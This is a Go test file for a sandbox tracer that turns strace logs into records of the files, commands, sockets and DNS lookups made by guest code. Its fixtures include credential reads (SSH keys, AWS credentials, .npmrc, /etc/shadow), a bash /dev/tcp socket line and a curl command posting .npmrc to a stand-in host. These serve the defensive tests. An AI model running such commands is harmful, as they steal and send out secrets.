package sandbox

import (
	"bytes"
	"fmt"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"github.com/google/go-cmp/cmp"
)

// traceFile runs the tracer over a captured log in testdata/strace.
func traceFile(t testing.TB, name string, argv []string) Phase {
	t.Helper()
	f, err := os.Open(filepath.Join("testdata", "strace", name))
	if err != nil {
		t.Fatal(err)
	}
	defer f.Close()
	tr := newTracer(GuestWork, argv)
	if err := tr.readTrace(f, nil); err != nil {
		t.Fatal(err)
	}
	if !tr.started {
		t.Errorf("%s: start not seen", name)
	}
	tr.finish(false)
	var ph Phase
	tr.fill(&ph)
	return ph
}

// traceLines runs the tracer over log lines.
func traceLines(lines ...string) Phase {
	tr := newTracer(GuestWork, []string{"sh", "-c", "main"})
	tr.readTrace(strings.NewReader(strings.Join(lines, "\n")), nil)
	tr.finish(false)
	var ph Phase
	tr.fill(&ph)
	return ph
}

// runtimeFile reports whether p is a file of the runtimes and the C
// library that every phase reads: left out of the comparisons.
func runtimeFile(p string) bool {
	for _, pre := range []string{"/usr/lib/", "/usr/local/lib/", "/lib/", "/lib64/", "/etc/ld.so.cache", "/proc/"} {
		if strings.HasPrefix(p, pre) {
			return true
		}
	}
	return false
}

func withoutRuntime(fs []File) []File {
	var out []File
	for _, f := range fs {
		if !runtimeFile(f.Path) {
			out = append(out, f)
		}
	}
	return out
}

func TestTraceCaptured(t *testing.T) {
	shell := Phase{
		Files: []File{
			{Path: "/dev/null", Read: true, Write: true},
			{Path: GuestHome + "/.ssh/id_rsa", Read: true},
			{Path: "/etc/passwd", Read: true}, // bash's getpwuid
		},
		Commands: []Command{
			{Argv: []string{"cat", GuestHome + "/.ssh/id_rsa"}},
			{Argv: []string{"sh", "-c", "true"}},
			{Argv: []string{"bash", "-c", "exec 3<>/dev/tcp/127.0.0.1/9"}},
		},
		Sockets: []Socket{
			{Address: "/var/run/nscd/socket", Protocol: "unix"},
			{Address: "127.0.0.1", Port: 9, Protocol: "tcp"},
		},
		DNS: []string{},
		// sh forked the background job; sh exited before it ran "sleep".
		Lingering: []Command{{Argv: []string{"sh", "-c", "cat ~/.ssh/id_rsa >/dev/null; sh -c true; bash -c \"exec 3<>/dev/tcp/127.0.0.1/9\"; sleep 30 & echo started"}}},
	}
	tests := []struct {
		file string
		argv []string
		want Phase
	}{
		{
			file: "python.txt",
			argv: []string{"python3", "/work/fixture.py"},
			want: Phase{
				Files: []File{
					{Path: "/work/fixture.py", Read: true},
					{Path: "/work", Read: true},
					{Path: GuestHome + "/.aws/credentials", Read: true},
					{Path: "/work/plain.txt", Write: true},
					{Path: "/work/a b, c.txt", Write: true, Delete: true},
					{Path: "/work/nl\nx, O_RDONLY, 0o0", Write: true, Delete: true},
					{Path: "/work/renamed.txt", Write: true, Delete: true},
					{Path: "/work/d", Read: true, Write: true, Delete: true},
					{Path: "/work/d/f", Read: true, Write: true, Delete: true},
					{Path: "/work/d/g", Write: true, Delete: true},
					{Path: GuestHome + "/.ssh/id_rsa", Read: true}, // symlinked
					{Path: "/work/key", Write: true},
					{Path: "/usr/evil", Write: true, Denied: true},
					{Path: "/etc/evil", Write: true, Denied: true},
					{Path: GuestHome + "/.ssh/id_ed25519", Read: true}, // relative, after chdir
					{Path: "/etc/resolv.conf", Read: true},
					{Path: "/dev/null", Write: true},
					{Path: GuestHome + "/.npmrc", Read: true}, // by a process named "a X openat(b"
				},
				Commands: []Command{
					{Argv: []string{"sh", "-c", `echo 'q"uo\te' >/dev/null`}},
					{Argv: []string{"sleep", "30"}},
				},
				Sockets: []Socket{
					{Address: "127.0.0.1", Port: 9, Protocol: "tcp"},
					{Address: "::1", Port: 9, Protocol: "tcp"},
					{Address: "@abstract-sapper", Protocol: "unix"},
					{Address: "127.0.0.1", Port: 8123, Protocol: "tcp"},
					{Address: "127.0.0.1", Port: 9999, Protocol: "udp"},
					{Address: "/var/run/nscd/socket", Protocol: "unix"},
					{Address: "127.0.0.1", Port: 53, Protocol: "udp"},
				},
				// query.invalid from a sendmsg payload; getaddrinfo's
				// sendmmsg shows the resolver only.
				DNS:       []string{"query.invalid", "127.0.0.1:53"},
				Lingering: []Command{{Argv: []string{"sleep", "30"}}},
			},
		},
		{
			file: "node.txt",
			argv: []string{"node", "/work/t.js"},
			want: Phase{
				Files: []File{
					{Path: "/work/t.js", Read: true},
					{Path: "/etc/resolv.conf", Read: true},
					{Path: GuestHome + "/.npmrc", Read: true},
					{Path: "/dev/null", Read: true, Write: true},
				},
				Commands: []Command{
					{Argv: []string{"/bin/sh", "-c", "echo hi > /dev/null"}},
					{Argv: []string{"sleep", "30"}},
				},
				Sockets: []Socket{
					{Address: "/var/run/nscd/socket", Protocol: "unix"},
					{Address: "127.0.0.1", Port: 53, Protocol: "udp"},
					{Address: "127.0.0.1", Port: 9, Protocol: "tcp"},
				},
				DNS:       []string{"127.0.0.1:53"},
				Lingering: []Command{{Argv: []string{"sleep", "30"}}}, // spawn({detached: true}).unref()
			},
		},
		{
			file: "shell.txt",
			argv: shell.Lingering[0].Argv,
			want: shell,
		},
		{
			file: "shell-text.txt",
			argv: shell.Lingering[0].Argv,
			want: shell,
		},
		{
			file: "true.txt",
			argv: []string{"true"},
			want: Phase{Commands: []Command{}, Sockets: []Socket{}, DNS: []string{}},
		},
	}
	for _, tt := range tests {
		t.Run(strings.TrimSuffix(tt.file, ".txt"), func(t *testing.T) {
			got := traceFile(t, tt.file, tt.argv)
			got.Files = withoutRuntime(got.Files)
			if diff := cmp.Diff(tt.want, got); diff != "" {
				t.Errorf("%s (-want +got):\n%s", tt.file, diff)
			}
		})
	}
}

// strace returns a JSON log line with strace message msg.
func strace(msg string) string {
	var b bytes.Buffer
	b.WriteString(`{"msg":`)
	b.WriteString(fmt.Sprintf("%q", msg)) // the messages here need no JSON-only escapes
	b.WriteString(`,"level":"info","time":"2026-11-24T07:17:38.352507169Z"}`)
	return b.String()
}

func TestTraceLines(t *testing.T) {
	tests := []struct {
		name  string
		lines []string
		want  Phase
	}{
		{
			name: "ambiguous-dirfd",
			// The working directory is named "a, 0x1 b": two readings,
			// both recorded.
			lines: []string{strace(`[   1:   1] sh X openat(AT_FDCWD /work/a, 0x1 b, 0x7f00 c, O_RDONLY, 0o0) = 3 (0x3) (1µs)`)},
			want: Phase{Files: []File{
				{Path: "/work/a/b, 0x7f00 c", Read: true},
				{Path: "/work/a, 0x1 b/c", Read: true},
			}},
		},
		{
			name: "dotdot",
			lines: []string{
				strace(`[   1:   1] sh X openat(AT_FDCWD /work, 0x7f00 /work/x, 0x1 /../../home/sandbox/.ssh/id_rsa, O_RDONLY, 0o0) = 3 (0x3) (1µs)`),
			},
			want: Phase{Files: []File{{Path: GuestHome + "/.ssh/id_rsa", Read: true}}},
		},
		{
			name: "flags",
			lines: []string{
				strace(`[   1:   1] sh X openat(AT_FDCWD /work, 0x7f00 a, O_RDONLY|O_CLOEXEC|O_PATH, 0o0) = 3 (0x3) (1µs)`),
				strace(`[   1:   1] sh X openat(AT_FDCWD /work, 0x7f00 b, 0x241, 0o644) = 3 (0x3) (1µs)`),
				strace(`[   1:   1] sh X openat(AT_FDCWD /work, 0x7f00 c, O_RDWR, 0o0) = 3 (0x3) (1µs)`),
				strace(`[   1:   1] sh X openat(AT_FDCWD /work, 0x7f00 d, O_WRONLY|O_APPEND, 0o0) = 0 (0x0) errno=30 (read-only file system) (1µs)`),
				strace(`[   1:   1] sh X openat(AT_FDCWD /work, 0x7f00 e, O_RDONLY, 0o0) = 0 (0x0) errno=2 (no such file or directory) (1µs)`),
				strace(`[   1:   1] sh X creat(0x7f00 f, 0o644) = 3 (0x3) (1µs)`),
				strace(`[   1:   1] sh X open(0x7f00 /etc/shadow, O_RDONLY, 0o0) = 0 (0x0) errno=13 (permission denied) (1µs)`),
				strace(`[   1:   1] sh X truncate(0x7f00 /work/b, 0x0) = 0 (0x0) (1µs)`),
			},
			want: Phase{Files: []File{
				{Path: "/work/a", Read: true},  // O_PATH: may become a read
				{Path: "/work/b", Write: true}, // O_WRONLY|O_CREAT|O_TRUNC in hex
				{Path: "/work/c", Read: true, Write: true},
				{Path: "/work/d", Write: true, Denied: true},
				{Path: "/work/f", Write: true},
				{Path: "/etc/shadow", Read: true, Denied: true},
			}},
		},
		{
			name: "links",
			lines: []string{
				strace(`[   1:   1] sh X symlinkat(0x7f00 ../home/sandbox/.aws/credentials, AT_FDCWD /work, 0x7f01 k) = 0 (0x0) (1µs)`),
				strace(`[   1:   1] sh X linkat(AT_FDCWD /work, 0x7f00 k, 0xffffffffffffff9c, 0x7f01 l, 0x0) = 0 (0x0) (1µs)`),
				strace(`[   1:   1] sh X renameat2(0x3 /work/d, 0x7f00 x, 0x3, 0x7f01 y, 0x1) = 0 (0x0) (1µs)`),
			},
			want: Phase{Files: []File{
				{Path: "/home/sandbox/.aws/credentials", Read: true},
				{Path: "/work/k", Read: true, Write: true},
				{Path: "/work/l", Write: true},
				{Path: "/work/d/x", Delete: true},
				{Path: "/work/d/y", Write: true},
			}},
		},
		{
			name: "through-links",
			lines: []string{
				strace(`[   1:   1] sh X symlink(0x1 /home/sandbox, 0x2 /work/s) = 0 (0x0) (1µs)`),
				strace(`[   1:   1] sh X openat(AT_FDCWD /work, 0x3 s/.ssh/id_rsa, O_RDONLY, 0o0) = 3 (0x3) (1µs)`),
				strace(`[   1:   1] sh X unlink(0x4 /work/s) = 0 (0x0) (1µs)`),
				strace(`[   1:   1] sh X openat(AT_FDCWD /work, 0x5 /home/sandbox/.aws/credentials, O_PATH, 0o0) = 4 (0x4) (1µs)`),
				strace(`[   1:   1] sh X openat(AT_FDCWD /work, 0x6 /proc/self/fd/4, O_RDONLY, 0o0) = 5 (0x5) (1µs)`),
			},
			want: Phase{Files: []File{
				{Path: GuestHome, Read: true},
				{Path: "/work/s", Write: true, Delete: true}, // the link, not what it names
				{Path: GuestHome + "/.ssh/id_rsa", Read: true},
				{Path: "/work/s/.ssh/id_rsa", Read: true},
				{Path: GuestHome + "/.aws/credentials", Read: true},
				{Path: "/proc/self/fd/4", Read: true},
			}},
		},
		{
			name: "exec",
			lines: []string{
				strace(`[   1:   1] sh E exit_group(0x0)`), // first: no lingering
				strace(`[   2:   2] sh X execve(0x55 /bin/echo, 0x7f {error copying vector: file name too long}, 0x7f ["A=1"]) = 0 (0x0) (1µs)`),
				strace(`[   3:   3] sh X execve(0x55 /usr/bin/curl, 0x7f ["curl", "-d", "@/home/sandbox/.npmrc", "http://x.invalid/, 0x1 [\"y\"]"], 0x7f ["A=1"]) = 0 (0x0) (1µs)`),
				strace(`[   4:   4] sh X execve(0x55 /usr/bin/nope, 0x7f ["nope"], 0x7f []) = 0 (0x0) errno=2 (no such file or directory) (1µs)`),
				strace(`[   5:   5] sh X execveat(AT_FDCWD /work, 0x55 run.sh, 0x7f ["./run.sh"], 0x7f [], 0x0) = 0 (0x0) (1µs)`),
			},
			want: Phase{Commands: []Command{
				{Argv: []string{"/bin/echo"}},
				{Argv: []string{"curl", "-d", "@/home/sandbox/.npmrc", `http://x.invalid/, 0x1 ["y"]`}},
				{Argv: []string{"./run.sh"}},
			}},
		},
		{
			name: "lingering",
			lines: []string{
				// A child whose lines come before its parent's clone
				// returned, and that ended: not lingering.
				strace(`[   2:   2] sh X execve(0x55 /bin/true, 0x7f ["true"], 0x7f []) = 0 (0x0) (1µs)`),
				strace(`[   2:   2] true E exit_group(0x0)`),
				strace(`[   1:   1] sh X clone(CLONE_CHILD_CLEARTID|CLONE_CHILD_SETTID|0x11, 0x0, 0x0, 0x7f, 0x0) = 2 (0x2) (1µs)`),
				// A thread: not a process.
				strace(`[   1:   1] sh X clone(CLONE_VM|CLONE_FS|CLONE_FILES|CLONE_SIGHAND|CLONE_THREAD|CLONE_SYSVSEM, 0x7f, 0x7f, 0x7f, 0x7f) = 3 (0x3) (1µs)`),
				// clone3 made a thread, seen as [1: 4].
				strace(`[   1:   1] sh X clone3(0x7f, 0x58) = 4 (0x4) (1µs)`),
				strace(`[   1:   4] sh X socket(AF_UNIX, SOCK_STREAM, 0x0) = 5 (0x5) (1µs)`),
				// Reaped after a kill: not lingering.
				strace(`[   1:   1] sh X fork() = 5 (0x5) (1µs)`),
				strace(`[   1:   1] sh X wait4(0x5, 0x7f, 0x0, null) = 5 (0x5) (1µs)`),
				strace(`[   1:   1] sh X clone(CLONE_CHILD_CLEARTID|CLONE_CHILD_SETTID|0x11, 0x0, 0x0, 0x7f, 0x0) = 6 (0x6) (1µs)`),
				strace(`[   1:   1] sh X waitid(0x1, 0x6, 0x7f, 0x4, null) = 0 (0x0) (1µs)`),
				// Killed: not lingering.
				strace(`[   1:   1] sh X fork() = 10 (0xa) (1µs)`),
				strace(`[   1:   1] sh X kill(0xa, SIGKILL) = 0 (0x0) (1µs)`),
				// Daemonised: fork, exec, outlives the main process.
				strace(`[   1:   1] sh X vfork() = 7 (0x7) (1µs)`),
				strace(`[   7:   7] sh X execve(0x55 /usr/bin/sleep, 0x7f ["sleep", "30"], 0x7f []) = 0 (0x0) (1µs)`),
				strace(`[   1:   1] sh X clone(CLONE_CHILD_CLEARTID|CLONE_CHILD_SETTID|0x11, 0x0, 0x0, 0x7f, 0x0) = 8 (0x8) (1µs)`),
				strace(`[   1:   1] sh E exit_group(0x0)`),
				// After the main process: not lingering, killed.
				strace(`[   1:   1] sh X clone(CLONE_CHILD_CLEARTID|CLONE_CHILD_SETTID|0x11, 0x0, 0x0, 0x7f, 0x0) = 9 (0x9) (1µs)`),
			},
			want: Phase{
				Commands: []Command{{Argv: []string{"true"}}, {Argv: []string{"sleep", "30"}}},
				Lingering: []Command{
					{Argv: []string{"sleep", "30"}},
					{Argv: []string{"sh", "-c", "main"}}, // forked, not yet exec'd
				},
			},
		},
		{
			name: "sockets",
			lines: []string{
				strace(`[   1:   1] sh X socket(AF_INET, SOCK_DGRAM|SOCK_CLOEXEC, IPPROTO_IP) = 3 (0x3) (1µs)`),
				strace(`[   1:   1] sh X bind(0x3 socket:[1], 0x7f {Family: AF_INET, Addr: , Port: 0}, 0x10) = 0 (0x0) (1µs)`),
				strace(`[   1:   1] sh X connect(0x3 socket:[1], 0x7f {Family: AF_INET6, Addr: 2001:db8::1, Port: 53}, 0x1c) = 0 (0x0) (1µs)`),
				strace(`[   1:   1] sh E sendmsg(0x3 socket:[1], 0x7f {name=0x0, namelen=0, iovecs=0x7f {base=0x7f, len=31, "\x124\x01\x00\x00\x01\x00\x00\x00\x00\x00\x00\x05query\ainvalid\x00\x00\x01\x00\x01"}, control={0x0 }, flags=0}, 0x0)`),
				strace(`[   1:   1] sh E connect(0x4 socket:[2], 0x7f {Family: AF_INET, Addr: 127.0.0.1, Port: 80}, 0x10)`),
				strace(`[   1:   1] sh X connect(0x5 socket:[3], 0x7f {Family: AF_UNSPEC}, 0x10) = 0 (0x0) (1µs)`),
				strace(`[   1:   1] sh X connect(0x6 socket:[4], 0x7f {Family: AF_UNIX, Addr: "/run/docker.sock"}, 0x6e) = 0 (0x0) errno=2 (no such file or directory) (1µs)`),
			},
			want: Phase{
				Sockets: []Socket{
					{Address: "2001:db8::1", Port: 53, Protocol: "udp"},
					{Address: "127.0.0.1", Port: 80},
					{Address: "/run/docker.sock", Protocol: "unix"},
				},
				DNS: []string{"query.invalid", "[2001:db8::1]:53"},
			},
		},
		{
			name: "noise",
			lines: []string{
				`not a log line`,
				`{"msg":"Mounted \"/tmp\" to \"/tmp\" type: tmpfs","level":"info"}`,
				`{"level":"info","msg":"[   1:   1] sh X unlink(0x7f /work/x) = 0 (0x0) (1µs)"}`,
				strace(`[   1:   1] sh X unlink(0x7f /work/y)`), // no result: skipped
				strace(`[x:1] sh X unlink(0x7f /work/z) = 0 (0x0) (1µs)`),
				strace(`[   1:   1] sh X read(0x3, 0x7f "/work/w", 0x1) = 1 (0x1) (1µs)`),
			},
			want: Phase{Files: []File{{Path: "/work/x", Delete: true}}},
		},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			got := traceLines(tt.lines...)
			for _, p := range []*[]File{&tt.want.Files, &got.Files} {
				if len(*p) == 0 {
					*p = nil
				}
			}
			if len(got.Commands) == 0 {
				got.Commands = nil
			}
			if len(got.Sockets) == 0 {
				got.Sockets = nil
			}
			if len(got.DNS) == 0 {
				got.DNS = nil
			}
			if diff := cmp.Diff(tt.want, got); diff != "" {
				t.Errorf("(-want +got):\n%s", diff)
			}
		})
	}
}

func TestTraceBounds(t *testing.T) {
	var b strings.Builder
	for i := range maxFiles + 10 {
		fmt.Fprintln(&b, strace(fmt.Sprintf(`[   1:   1] sh X openat(AT_FDCWD /work, 0x7f00 f%d, O_RDONLY, 0o0) = 3 (0x3) (1µs)`, i)))
	}
	// Past the bound, a file outside the usual trees still counts.
	fmt.Fprintln(&b, strace(`[   1:   1] sh X openat(AT_FDCWD /work, 0x7f00 /home/sandbox/.ssh/id_rsa, O_RDONLY, 0o0) = 3 (0x3) (1µs)`))
	// A line longer than maxTraceLine: cut, still read.
	long := strings.Repeat("a", maxTraceLine)
	fmt.Fprintln(&b, strace(`[   2:   2] sh X execve(0x55 /bin/echo, 0x7f ["echo", "x", "`+long+`"], 0x7f []) = 0 (0x0) (1µs)`))
	fmt.Fprintln(&b, strace(`[   3:   3] sh X execve(0x55 /bin/true, 0x7f ["true"], 0x7f []) = 0 (0x0) (1µs)`))

	tr := newTracer(GuestWork, []string{"sh"})
	if err := tr.readTrace(strings.NewReader(b.String()), nil); err != nil {
		t.Fatal(err)
	}
	var ph Phase
	tr.fill(&ph)
	if len(ph.Files) != maxFiles+1 || ph.Files[maxFiles].Path != GuestHome+"/.ssh/id_rsa" {
		t.Errorf("files: %d, last %+v; want %d ending with the honeypot", len(ph.Files), ph.Files[len(ph.Files)-1], maxFiles+1)
	}
	if ph.Dropped != 10 {
		t.Errorf("dropped %d, want 10", ph.Dropped)
	}
	want := []Command{{Argv: []string{"echo", "x", "..."}}, {Argv: []string{"true"}}}
	if diff := cmp.Diff(want, ph.Commands); diff != "" {
		t.Errorf("commands (-want +got):\n%s", diff)
	}

	argv := make([]string, maxArgs+5)
	for i := range argv {
		argv[i] = strings.Repeat("b", maxArgBytes+1)
	}
	got := boundArgv(argv)
	if len(got) != maxArgs+1 || got[maxArgs] != "..." || len(got[0]) != maxArgBytes+3 {
		t.Errorf("boundArgv: %d elements, last %q, first %d bytes", len(got), got[len(got)-1], len(got[0]))
	}
}

func TestReadTraceStop(t *testing.T) {
	stop := `{"msg":"sapper-trace-end-1234"}`
	in := strings.Join([]string{
		strace(`[   1:   1] sh X unlink(0x7f /work/a) = 0 (0x0) (1µs)`),
		stop,
		strace(`[   1:   1] sh X unlink(0x7f /work/b) = 0 (0x0) (1µs)`),
	}, "\n")
	tr := newTracer(GuestWork, nil)
	if err := tr.readTrace(strings.NewReader(in), []byte(stop)); err != nil {
		t.Fatal(err)
	}
	var ph Phase
	tr.fill(&ph)
	if len(ph.Files) != 1 || ph.Files[0].Path != "/work/a" {
		t.Errorf("files %+v, want /work/a only", ph.Files)
	}
}

func TestJSONStringPrefix(t *testing.T) {
	tests := []struct{ in, want string }{
		{`abc"rest`, "abc"},
		{`a\"b\\c\/d\n\t"`, "a\"b\\c/d\n\t"},
		{`\u003e\u00e9\ud83d\ude00"`, ">é😀"},
		{`\ud83d"`, "\uFFFD"},
		{`cut\u00`, "cut"},
		{`cut\`, "cut"},
		{"\xff\"", "\uFFFD"},
	}
	for _, tt := range tests {
		if got := jsonStringPrefix([]byte(tt.in)); got != tt.want {
			t.Errorf("jsonStringPrefix(%q) = %q, want %q", tt.in, got, tt.want)
		}
	}
}

func TestDNSQuestion(t *testing.T) {
	q := []byte("\x12\x34\x01\x00\x00\x01\x00\x00\x00\x00\x00\x00\x03Foo\x07invalid\x00\x00\x01\x00\x01")
	tests := []struct {
		name string
		msg  []byte
		tcp  bool
		want string
	}{
		{"query", q, false, "foo.invalid"},
		{"tcp", append([]byte{0, byte(len(q))}, q...), true, "foo.invalid"},
		{"response", append([]byte{0x12, 0x34, 0x81}, q[3:]...), false, ""},
		{"short", q[:20], false, ""},
		{"no-questions", append(append([]byte{}, q[:4]...), append([]byte{0, 0}, q[6:]...)...), false, ""},
		{"text", []byte("hello, this is not dns at all"), false, ""},
	}
	for _, tt := range tests {
		if got := dnsQuestion(tt.msg, tt.tcp); got != tt.want {
			t.Errorf("%s: dnsQuestion = %q, want %q", tt.name, got, tt.want)
		}
	}
}

// FuzzTrace feeds the tracer arbitrary log lines: it must not panic,
// and what it records stays within bounds and absolute.
func FuzzTrace(f *testing.F) {
	for _, name := range []string{"python.txt", "node.txt", "shell.txt", "shell-text.txt"} {
		data, err := os.ReadFile(filepath.Join("testdata", "strace", name))
		if err != nil {
			f.Fatal(err)
		}
		for _, line := range bytes.Split(data, []byte("\n")) {
			if bytes.Contains(line, []byte(" X ")) || bytes.Contains(line, []byte(" E ")) {
				f.Add(line)
			}
		}
	}
	f.Fuzz(func(t *testing.T, line []byte) {
		tr := newTracer(GuestWork, []string{"sh"})
		tr.readTrace(bytes.NewReader(line), nil)
		tr.finish(false)
		var ph Phase
		tr.fill(&ph)
		for _, fl := range ph.Files {
			if !strings.HasPrefix(fl.Path, "/") {
				t.Errorf("relative path %q", fl.Path)
			}
		}
		if len(ph.Files) > maxFiles+maxNotable || len(ph.Commands) > maxCommands {
			t.Errorf("unbounded: %d files, %d commands", len(ph.Files), len(ph.Commands))
		}
	})
}
